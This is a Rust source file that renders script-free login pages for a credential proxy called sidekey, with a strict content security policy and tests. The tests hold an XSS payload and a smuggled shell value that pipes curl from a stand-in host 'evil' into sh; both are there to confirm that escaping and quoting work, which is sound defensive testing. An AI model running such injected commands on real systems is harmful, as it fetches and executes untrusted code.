//! The pages of a login: plain HTML without scripts, for any screen, in the light and in the dark.

use crate::credential::DEFAULT_ACCOUNT;
use std::sync::LazyLock;

use aws_lc_rs::digest::{SHA256, digest};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use http::header::{HeaderValue, LOCATION, REFERRER_POLICY};
use http::{Response, StatusCode};
use http_body_util::Full;

use super::book::{Done, Useless};
use super::html::{self, Html};
use super::shell_word;

/// An answer to a browser.
pub type Page = Response<Full<Bytes>>;

const STYLE: &str = "\
:root{color-scheme:light dark;font:1rem/1.5 system-ui,sans-serif}\
body{margin:0;padding:1.5rem}\
main{max-width:36rem;margin:10vh auto 0}\
h1{font-size:1.5rem;line-height:1.25}\
dt{font-weight:600}dd{margin:0 0 .75rem;overflow-wrap:anywhere}\
p,li{overflow-wrap:anywhere}\
label{display:block;font-weight:600}\
input,button{font:inherit;padding:.5rem .75rem;box-sizing:border-box}\
input{width:100%;margin:.25rem 0 1rem}\
.error{border-left:.25rem solid #c33;padding-left:.75rem}";

/// No script, no frame, no other origin; the one style, by its hash.
static POLICY: LazyLock<HeaderValue> = LazyLock::new(|| {
    let hash = STANDARD.encode(digest(&SHA256, STYLE.as_bytes()));
    let text = format!(
        "default-src 'none'; style-src 'sha256-{hash}'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
    );
    HeaderValue::try_from(text).unwrap_or_else(|_| HeaderValue::from_static("default-src 'none'"))
});

/// A page with a heading and paragraphs.
pub fn message(status: StatusCode, heading: &'static str, paragraphs: &[&str]) -> Page {
    let body = paragraphs.iter().fold(Html::default(), |html, text| html.paragraph(text));
    page(status, heading, "", body)
}

/// The page at the end of a login that worked.
pub fn worked(done: &Done) -> Page {
    let mut body = Html::default()
        .raw("<dl>")
        .pair("Credential", &done.credential)
        .pair("Account", &done.account)
        .pair("Granted", done.scope.as_deref().unwrap_or("what was asked for"))
        .raw("</dl>\n");
    if !done.refresh {
        body = body.paragraph(NO_REFRESH);
    }
    if let Some(reason) = &done.unsaved {
        body = body.paragraph(&format!(
            "The store did not take the grant ({reason}). It is used from memory until the store takes it."
        ));
    }
    page(StatusCode::OK, "It worked", "", body.paragraph("You can close this window."))
}

/// What is said of a login without a refresh token.
pub const NO_REFRESH: &str = "The server gave no refresh token, so this login ends when its access token expires. \
     Ask for the scope offline_access to stay logged in.";

/// The page that asks for the admin token before a login begins.
pub fn form(
    credential: &str,
    account: &str,
    scope: Option<&str>,
    refused: Option<(StatusCode, &str)>,
) -> Page {
    let option = match account {
        DEFAULT_ACCOUNT => String::new(),
        name => format!(" --account {}", shell_word(name)),
    };
    let mut body = Html::default();
    if let Some((_, why)) = refused {
        body = body.raw("<p class=\"error\" role=\"alert\">").text(why).raw("</p>\n");
    }
    let body = body
        .paragraph(
            "You will be sent to the authorization server to log in. What it grants is kept by this sidekey and \
             carried by the requests that go through it; no app sees it.",
        )
        .raw("<dl>")
        .pair("Credential", credential)
        .pair("Account", account)
        .pair("Asked for", scope.unwrap_or("the server's default"))
        .raw("</dl>\n<form method=\"post\" autocomplete=\"off\">\n<label for=\"token\">Admin token</label>\n")
        .raw("<input id=\"token\" name=\"token\" type=\"password\" required autofocus autocomplete=\"off\">\n")
        .raw("<button type=\"submit\">Log in</button>\n</form>\n<p>The command <code>sidekey login ")
        .text(credential)
        .text(&option)
        .raw("</code> does the same and needs no token typed.</p>\n");
    let status = refused.map_or(StatusCode::OK, |(status, _)| status);
    let mut page = page(status, "Log in", "", body);
    // With `no-referrer` a browser would send the form with `Origin: null`.
    page.headers_mut().insert(REFERRER_POLICY, HeaderValue::from_static("same-origin"));
    page
}

/// The page that goes on to a link by itself. A redirect would not do: browsers hold every redirect after a form to
/// `form-action`, up to the authorization server's own pages.
pub fn onward(link: &str) -> Page {
    let head = Html::default().raw("<meta http-equiv=\"refresh\" content=\"0;url=").text(link).raw("\">");
    let body = Html::default()
        .raw("<p><a href=\"")
        .text(link)
        .raw("\" rel=\"noreferrer\">Go on to the authorization server</a>, if that does not happen by itself.</p>\n");
    page(StatusCode::OK, "Log in", head.markup(), body)
}

/// What is said of a login that failed.
pub(super) const UNCHANGED: &str = "Nothing was changed. You can close this window.";

/// The page for what comes back to no live login.
pub(super) fn not_logged_in(why: &str) -> Page {
    message(StatusCode::BAD_REQUEST, "Not logged in", &[why, "No login was disturbed by this."])
}

/// The page for a link that is of no use.
pub(super) fn useless_link(useless: Useless) -> Page {
    let why = match useless {
        Useless::Expired => "This link has expired. Begin the login again.",
        Useless::Used => "This link has been used before, and it works once. Begin the login again.",
        _ => "This link is not one of a login that was begun here. Begin the login again.",
    };
    message(StatusCode::BAD_REQUEST, "Not logged in", &[why])
}

/// Why what a browser brought back is of no use.
pub(super) fn why_no_return(useless: Useless) -> &'static str {
    match useless {
        Useless::Unknown => "What came back belongs to no login that was begun here. Begin the login again.",
        Useless::Used => {
            "This login was finished before: its answer counts once. If it worked then, it still does; if not, begin it again."
        }
        Useless::Expired => "This login has expired. Begin it again, and finish it in time.",
        Useless::OtherBrowser => {
            "This is not the browser that began the login, or it keeps no cookies. Finish it in the window where it was begun."
        }
        Useless::OtherWay(_) => {
            "This login was begun at a terminal. Copy the address of this page and paste it there."
        }
    }
}

/// Why what was pasted is of no use.
pub(super) fn why_no_paste(useless: Useless) -> &'static str {
    match useless {
        Useless::Unknown | Useless::OtherBrowser => {
            "the pasted address belongs to another login; paste the one that the browser shows at the end of this one"
        }
        Useless::Used => "this login is over; begin again",
        Useless::Expired => "nobody finished the login in time; begin again",
        Useless::OtherWay(_) => "this login was begun for a browser; finish it there",
    }
}

/// Goes elsewhere by GET.
pub fn see_other(to: &str) -> Page {
    match HeaderValue::try_from(to) {
        Ok(location) => {
            let mut page = page(StatusCode::SEE_OTHER, "Log in", "", Html::default());
            *page.body_mut() = Full::default();
            page.headers_mut().insert(LOCATION, location);
            page
        }
        Err(_) => message(
            StatusCode::INTERNAL_SERVER_ERROR,
            "This cannot be",
            &["The address of the next page is no header value."],
        ),
    }
}

fn page(status: StatusCode, heading: &'static str, head: &str, body: Html) -> Page {
    let text = format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
         <meta name=\"color-scheme\" content=\"light dark\">{head}\
         <title>{heading} – sidekey</title><style>{STYLE}</style></head>\n\
         <body><main><h1>{heading}</h1>\n{}</main></body></html>\n",
        body.markup()
    );
    html::answer(status, text, &POLICY)
}

#[cfg(test)]
mod tests {
    use http::header::CONTENT_SECURITY_POLICY;
    use http_body_util::BodyExt as _;

    use super::*;

    async fn text(page: Page) -> String {
        let bytes = page.into_body().collect().await.unwrap().to_bytes();
        String::from_utf8(bytes.to_vec()).unwrap()
    }

    const EVIL: &str = "<script>alert(\"1\")</script>'&";

    #[tokio::test]
    async fn every_text_from_elsewhere_is_escaped() {
        let done = Done {
            credential: EVIL.into(),
            account: EVIL.into(),
            scope: Some(EVIL.to_owned()),
            refresh: false,
            expires_in: None,
            unsaved: Some(EVIL.to_owned()),
        };
        let pages = [
            message(StatusCode::BAD_REQUEST, "x", &[EVIL]),
            worked(&done),
            form(EVIL, EVIL, Some(EVIL), Some((StatusCode::UNAUTHORIZED, EVIL))),
            onward(EVIL),
        ];
        for page in pages {
            let text = text(page).await;
            assert!(!text.contains("<script") && !text.contains("\"1\""), "{text}");
            assert!(text.contains("&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;&#39;&amp;"), "{text}");
        }
    }

    #[tokio::test]
    async fn the_command_of_the_form_runs_nothing_that_an_account_name_holds() {
        let text = text(form("neon", "x;curl${IFS}evil|sh", None, None)).await;
        assert!(text.contains("--account &#39;x;curl${IFS}evil|sh&#39;</code>"), "{text}");
    }

    #[tokio::test]
    async fn a_page_allows_its_own_style_and_nothing_else() {
        let page = message(StatusCode::OK, "x", &[]);
        let policy = page.headers()[CONTENT_SECURITY_POLICY].to_str().unwrap().to_owned();
        for part in ["default-src 'none'", "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"]
        {
            assert!(policy.contains(part), "{policy}");
        }
        let header = |name: &str| page.headers()[name].to_str().unwrap().to_owned();
        assert_eq!(header("x-frame-options"), "DENY");
        assert_eq!(header("referrer-policy"), "no-referrer");
        assert_eq!(header("cache-control"), "no-store");
        let text = text(page).await;
        let (_, rest) = text.split_once("<style>").unwrap();
        let (style, _) = rest.split_once("</style>").unwrap();
        let hash = STANDARD.encode(digest(&SHA256, style.as_bytes()));
        assert!(policy.contains(&format!("style-src 'sha256-{hash}'")), "{policy}");
        assert!(!text.contains("style=") && !text.contains("<script"), "nothing that the policy forbids");
    }

    #[tokio::test]
    async fn a_login_without_a_refresh_token_says_what_to_ask_for() {
        let done = |refresh| Done {
            credential: "neon".into(),
            account: "alice".into(),
            scope: Some("openid".to_owned()),
            refresh,
            expires_in: Some(3600),
            unsaved: None,
        };
        assert!(text(worked(&done(false))).await.contains("offline_access"));
        assert!(!text(worked(&done(true))).await.contains("offline_access"));
    }
}
